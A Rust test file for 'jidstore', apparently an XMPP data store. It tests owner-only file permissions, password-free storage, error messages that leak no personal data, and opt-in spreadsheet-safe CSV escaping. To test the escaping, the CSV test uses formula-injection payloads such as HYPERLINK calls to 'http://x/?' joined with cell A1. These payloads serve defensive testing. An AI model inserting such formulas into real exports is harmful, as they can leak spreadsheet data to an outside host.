//! Personal data at rest and in messages: owner-only data directories and outputs (whatever
//! the umask), passwords kept only as SCRAM verifiers (a raw byte search finds no trace),
//! stored JIDs, passwords and message text never in stderr unless typed on that command
//! line, and spreadsheet-safe CSV escaping (off by default, exact round trip).

#![allow(
    clippy::too_many_lines,
    reason = "one scenario per test, read top to bottom"
)]

use std::collections::BTreeMap;
use std::io::{Cursor, Read};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use jidstore::__internal::keys::Keyspace;
use jidstore::__internal::sample;
use jidstore::ext::mam::{Direction, PmMessage};
use jidstore::ext::roster::{Ask, RosterItem, Subscription};
use jidstore::gdpr::{CsvEscaping, ExportOptions};
use jidstore::{Config, Store, Timestamp};

use crate::util::*;

/// Runs the binary through `sh` with a wide-open umask (000), so that anything not made
/// owner-only on purpose would show as world-readable.
fn run_umask0(data: &Path, args: &[&str]) -> Run {
    let mut script = String::from("umask 000; exec \"$0\" \"$@\"");
    script.push('\n');
    let mut sh = std::process::Command::new("sh");
    sh.arg("-c").arg(script).arg(env!("CARGO_BIN_EXE_jidstore"));
    jidstore_through(sh, data, args)
}

/// Every path under `root` (itself included) with its mode, symlinks not followed.
fn modes(root: &Path) -> Vec<(String, bool, u32)> {
    let mut out = Vec::new();
    let meta = std::fs::symlink_metadata(root).unwrap();
    out.push((
        root.display().to_string(),
        meta.is_dir(),
        meta.permissions().mode() & 0o777,
    ));
    if meta.is_dir() {
        for e in std::fs::read_dir(root).unwrap() {
            out.extend(modes(&e.unwrap().path()));
        }
    }
    out
}

fn assert_owner_only(root: &Path) {
    for (path, dir, mode) in modes(root) {
        let want = if dir { 0o700 } else { 0o600 };
        assert_eq!(mode, want, "{path} is {mode:o}, want {want:o}");
    }
}

/// Whether `needle` occurs in any file under `root`.
fn on_disk(root: &Path, needle: &[u8]) -> bool {
    if root.is_dir() {
        return std::fs::read_dir(root)
            .unwrap()
            .any(|e| on_disk(&e.unwrap().path(), needle));
    }
    let bytes = std::fs::read(root).unwrap();
    bytes.windows(needle.len()).any(|w| w == needle)
}

#[test]
fn data_dirs_and_outputs_are_owner_only_whatever_the_umask() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("deep/data");
    let r = run_umask0(&data, &["register", "--user", "dave", "localhost", "pw"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_owner_only(&data);
    // Reopening a written store makes sled write a snapshot, with the umask's mode (0666
    // here) unless jidstore restricts it; a large value goes to a blob file the same way.
    // The sample deployment puts every class in the store, and in the exports below.
    let big = format!("<q xmlns='big'>{}</q>", "x".repeat(200_000));
    {
        let store = Config::new(&data)
            .scram_iterations(16)
            .lock_timeout(std::time::Duration::from_secs(5))
            .open()
            .unwrap();
        let alice = sample::populate(&store, Timestamp::from_secs(1_700_000_000))
            .unwrap()
            .alice;
        store.private().set(&alice, "big", &big).unwrap();
        store.flush().unwrap();
    }
    for _ in 0..2 {
        let r = run_umask0(&data, &["stats"]);
        assert_eq!(r.code, 0, "{}", r.stderr);
    }
    assert!(
        std::fs::read_dir(&data).unwrap().any(|e| e
            .unwrap()
            .file_name()
            .to_string_lossy()
            .starts_with("snap.")),
        "no snapshot was written"
    );
    assert_owner_only(&data);
    let backup = dir.path().join("copy");
    let r = run_umask0(&data, &["backup", backup.to_str().unwrap()]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_owner_only(&backup);
    let r = run_umask0(&data, &["compact"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_owner_only(&data);
    let out = dir.path().join("out");
    std::fs::create_dir(&out).unwrap();
    for cmd in ["retrieve_personal_data", "export-xep0227"] {
        let r = run_umask0(&data, &[cmd, "alice", "localhost", out.to_str().unwrap()]);
        assert_eq!(r.code, 0, "{}", r.stderr);
    }
    let files: Vec<_> = std::fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert_eq!(files.len(), 2, "{files:?}");
    for f in files {
        let mode = std::fs::metadata(&f).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "{}", f.display());
    }
    // The library creates stores the same way.
    let lib = dir.path().join("lib");
    drop(Config::new(&lib).open().unwrap());
    assert_owner_only(&lib);
}

#[test]
fn passwords_leave_no_trace_on_disk() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let password = "zqUniquePassw0rd-4c1d9e";
    let r = jidstore(
        &data,
        &["register", "--user", "zqpwuser", "localhost", password],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    let file = dir.path().join("import.xml");
    let imported = "zqImportedPlain-77ab";
    std::fs::write(
        &file,
        format!(
            "<server-data xmlns='urn:xmpp:pie:0'><host jid='localhost'>\
             <user name='zqimported' password='{imported}'/></host></server-data>"
        ),
    )
    .unwrap();
    let r = jidstore(&data, &["import", file.to_str().unwrap()]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    // The search works: the usernames are there (keys), the passwords are not.
    assert!(on_disk(&data, b"zqpwuser"));
    assert!(on_disk(&data, b"zqimported"));
    for secret in [password, imported] {
        assert!(!on_disk(&data, secret.as_bytes()), "{secret} found on disk");
    }
    let zip = dir.path().join("e.zip");
    let r = retrieve_to(&data, "zqimported", &zip);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let xml = dir.path().join("e.xml");
    let r = export_to(&data, "export-xep0227", "zqpwuser", "localhost", &xml);
    assert_eq!(r.code, 0, "{}", r.stderr);
    for f in [&zip, &xml] {
        assert!(!on_disk(f, imported.as_bytes()) && !on_disk(f, password.as_bytes()));
    }
}

const MARKERS: [&str; 5] = [
    "zqmarkeruser",
    "zqMarkerPassw0rd",
    "zqmarkervcardtext",
    "zqmarkermessagebody",
    "zqmarkerpeer",
];

fn marker_store(data: &Path) {
    let store = Config::new(data).scram_iterations(16).open().unwrap();
    let marked = bare("zqmarkeruser@localhost");
    store.accounts().create(&marked, MARKERS[1]).unwrap();
    user(&store, "alice@localhost");
    store
        .vcard()
        .set(
            &marked,
            &format!("<vCard xmlns='vcard-temp'><FN>{}</FN></vCard>", MARKERS[2]),
        )
        .unwrap();
    for owner in [&marked, &bare("alice@localhost")] {
        store
            .mam()
            .append(
                owner,
                &PmMessage::new(
                    Timestamp::from_secs(1_700_000_000),
                    full("zqmarkeruser@localhost/r"),
                    full("zqmarkerpeer@localhost"),
                    Direction::Outgoing,
                    format!("<message><body>{}</body></message>", MARKERS[3]),
                ),
            )
            .unwrap();
    }
    // A damaged record of the marked user: only `verify` (asked for it) may name its key.
    let (key, value) = store.raw_tree(Keyspace::Vcard).first().unwrap().unwrap();
    let damaged: Vec<u8> = value.iter().map(|b| b ^ 0x5a).collect();
    store
        .raw_tree(Keyspace::Vcard)
        .insert(&key, damaged)
        .unwrap();
    store.flush().unwrap();
}

#[test]
fn stored_personal_data_stays_out_of_error_messages() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    marker_store(&data);
    let p = |s: &str| dir.path().join(s).to_str().unwrap().to_owned();
    std::fs::write(p("exists.zip"), b"x").unwrap();
    std::fs::create_dir(p("exists")).unwrap();
    std::fs::write(
        p("dup.xml"),
        "<server-data xmlns='urn:xmpp:pie:0'><host jid='localhost'>\
         <user name='alice' password='x'/></host></server-data>",
    )
    .unwrap();
    std::fs::write(p("bad.xml"), "<server-data xmlns='urn:xmpp:pie:0'><host").unwrap();
    let failing: Vec<Vec<String>> = [
        vec!["retrieve_personal_data", "carol", "localhost", "OUT"],
        vec!["retrieve_personal_data", "alice", "localhost", "EXISTS"],
        vec![
            "retrieve_personal_data",
            "alice",
            "localhost",
            "MISSING/x.zip",
        ],
        vec!["export-xep0227", "carol", "localhost", "OUT"],
        vec!["unregister", "carol", "localhost"],
        vec!["mam", "query", "alice", "localhost", "--after-id", "nope"],
        vec!["mam", "query", "alice", "localhost", "--ids", "a,b"],
        vec!["mam", "query", "carol", "localhost"],
        vec![
            "mam",
            "query",
            "--room",
            "room@muc.localhost",
            "--after",
            "x",
        ],
        vec!["backup", "DIR"],
        vec!["import", "DUP"],
        vec!["import", "BAD"],
        vec!["register", "--user", "alice", "localhost", "pw"],
        vec!["compact"],
    ]
    .iter()
    .map(|a| {
        a.iter()
            .map(|s| match *s {
                "OUT" => p("out.zip"),
                "EXISTS" => p("exists.zip"),
                "MISSING/x.zip" => p("missing/x.zip"),
                "DIR" => p("exists"),
                "DUP" => p("dup.xml"),
                "BAD" => p("bad.xml"),
                other => other.to_owned(),
            })
            .collect()
    })
    .collect();
    let mut stderr_seen = 0;
    for args in &failing {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let r = jidstore_settled(&data, &args);
        assert_ne!(r.code, 0, "{args:?} succeeded: {}", r.stdout);
        assert!(!r.stderr.is_empty(), "{args:?}");
        stderr_seen += 1;
        for m in MARKERS {
            assert!(
                !r.stderr.contains(m) && !r.stdout.contains(m),
                "{args:?} printed stored text {m}: {}{}",
                r.stderr,
                r.stdout
            );
        }
    }
    // While another process holds the store.
    {
        let held = Config::new(&data)
            .lock_timeout(std::time::Duration::from_secs(5))
            .open()
            .unwrap();
        for args in [
            vec!["stats"],
            vec!["retrieve_personal_data", "alice", "localhost", "x.zip"],
        ] {
            let r = jidstore(&data, &args);
            assert_eq!(r.code, 1);
            assert!(
                MARKERS.iter().all(|m| !r.stderr.contains(m)),
                "{}",
                r.stderr
            );
            stderr_seen += 1;
        }
        drop(held);
    }
    // Typed on the command line: the JID may be echoed back.
    let r = jidstore_settled(
        &data,
        &[
            "retrieve_personal_data",
            "zqmarkeruser",
            "localhost",
            &p("exists.zip"),
        ],
    );
    assert_eq!(r.code, 1);
    assert!(!r.stderr.contains(MARKERS[1]) && !r.stderr.contains(MARKERS[2]));
    // `verify` lists damaged keys (the operator asked for them), on stdout.
    let r = jidstore_settled(&data, &["verify"]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stdout.contains("zqmarkeruser"), "{}", r.stdout);
    assert!(
        MARKERS.iter().all(|m| !r.stderr.contains(m)),
        "{}",
        r.stderr
    );
    println!("failure paths checked for stored text: {stderr_seen}");
}

/// Every cell of every CSV in an export.
fn cells(zip: Vec<u8>) -> (BTreeMap<String, Vec<Vec<String>>>, serde_json::Value) {
    let mut zip = zip::ZipArchive::new(Cursor::new(zip)).unwrap();
    let mut out = BTreeMap::new();
    let mut manifest = serde_json::Value::Null;
    for i in 0..zip.len() {
        let mut f = zip.by_index(i).unwrap();
        let name: String = f.name().unwrap().into_owned();
        let mut text = String::new();
        f.read_to_string(&mut text).unwrap();
        if name == "index.html" {
            continue;
        }
        if name == "manifest.json" {
            manifest = serde_json::from_str(&text).unwrap();
            continue;
        }
        let mut r = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes());
        out.insert(
            name,
            r.records()
                .map(|rec| rec.unwrap().iter().map(str::to_owned).collect())
                .collect(),
        );
    }
    (out, manifest)
}

fn export(store: &Store, escaping: CsvEscaping) -> Vec<u8> {
    let mut sink = Cursor::new(Vec::new());
    jidstore::gdpr::retrieve(
        store,
        &bare("alice@localhost"),
        &mut sink,
        &ExportOptions::default()
            .timestamp(Timestamp::from_secs(1_700_000_000))
            .csv_escaping(escaping),
    )
    .unwrap();
    sink.into_inner()
}

#[test]
fn csv_formula_cells_round_trip_by_default_and_are_escaped_when_asked() {
    let (_dir, store) = store();
    let alice = user(&store, "alice@localhost");
    let dangerous = ["=", "+", "-", "@", "\t", "\r"];
    let mut names = Vec::new();
    for (i, d) in dangerous.iter().enumerate() {
        let name = format!("{d}HYPERLINK(\"http://x/?\"&A1,\"{i}\")");
        names.push(name.clone());
        store
            .roster()
            .set(
                &alice,
                &RosterItem {
                    jid: bare(&format!("contact{i}@localhost")),
                    name: Some(name),
                    subscription: Subscription::Both,
                    ask: Ask::None,
                    groups: vec![format!("{d}group"), "plain=group".into()],
                    askmessage: None,
                },
            )
            .unwrap();
    }
    // A JID cell can start with a formula character too (nodeprep allows = + -).
    for local in ["=1+1", "+cmd", "-2"] {
        store
            .roster()
            .set(
                &alice,
                &RosterItem {
                    jid: bare(&format!("{local}@localhost")),
                    name: Some("safe name".into()),
                    subscription: Subscription::To,
                    ask: Ask::None,
                    groups: vec![],
                    askmessage: None,
                },
            )
            .unwrap();
    }
    let (exact, exact_manifest) = cells(export(&store, CsvEscaping::None));
    let (safe, safe_manifest) = cells(export(&store, CsvEscaping::SpreadsheetSafe));
    assert_eq!(exact_manifest["csv_escaping"], "none");
    assert_eq!(safe_manifest["csv_escaping"], "spreadsheet-safe");

    // Default: every dangerous name exactly as stored.
    let roster = &exact["roster.csv"];
    for name in &names {
        assert!(roster.iter().any(|row| row[1] == *name), "{name:?} lost");
    }
    // Safe: exactly the cells starting with a formula character gain a leading quote.
    assert_eq!(
        exact.keys().collect::<Vec<_>>(),
        safe.keys().collect::<Vec<_>>()
    );
    let mut escaped = 0;
    for (file, rows) in &exact {
        let safe_rows = &safe[file];
        assert_eq!(rows.len(), safe_rows.len(), "{file}");
        for (row, safe_row) in rows.iter().zip(safe_rows) {
            for (cell, safe_cell) in row.iter().zip(safe_row) {
                if cell.starts_with(CsvEscaping::FORMULA_STARTS) {
                    assert_eq!(*safe_cell, format!("'{cell}"), "{file}");
                    escaped += 1;
                } else {
                    assert_eq!(safe_cell, cell, "{file}");
                }
            }
        }
    }
    // 6 names, 3 JIDs; groups are joined into one cell per item ("=group, plain=group").
    assert_eq!(escaped, 6 + 3 + 6, "escaped cells");
    // The manifest describes the bytes written in each mode.
    assert_ne!(exact_manifest["files"], safe_manifest["files"]);
}

#[test]
fn cli_spreadsheet_safe_flag() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    assert_eq!(
        jidstore(&data, &["register", "--user", "=cmd", "localhost", "pw"]).code,
        0
    );
    for (flag, want, cell) in [
        (None, "none", "=cmd@localhost"),
        (
            Some("--spreadsheet-safe"),
            "spreadsheet-safe",
            "'=cmd@localhost",
        ),
    ] {
        let zip = dir.path().join(format!("{want}.zip"));
        let mut args = vec![
            "--json",
            "retrieve_personal_data",
            "=cmd",
            "localhost",
            zip.to_str().unwrap(),
        ];
        args.extend(flag);
        let r = jidstore(&data, &args);
        assert_eq!(r.code, 0, "{}", r.stderr);
        let doc: serde_json::Value = serde_json::from_str(&r.stdout).unwrap();
        assert_eq!(doc["csv_escaping"], want);
        let files = unzip(&zip);
        let manifest: serde_json::Value = serde_json::from_str(&files["manifest.json"]).unwrap();
        assert_eq!(manifest["csv_escaping"], want);
        let (_, rows) = csv_rows(&files["accounts.csv"]);
        assert_eq!(rows[0][0], cell);
    }
}
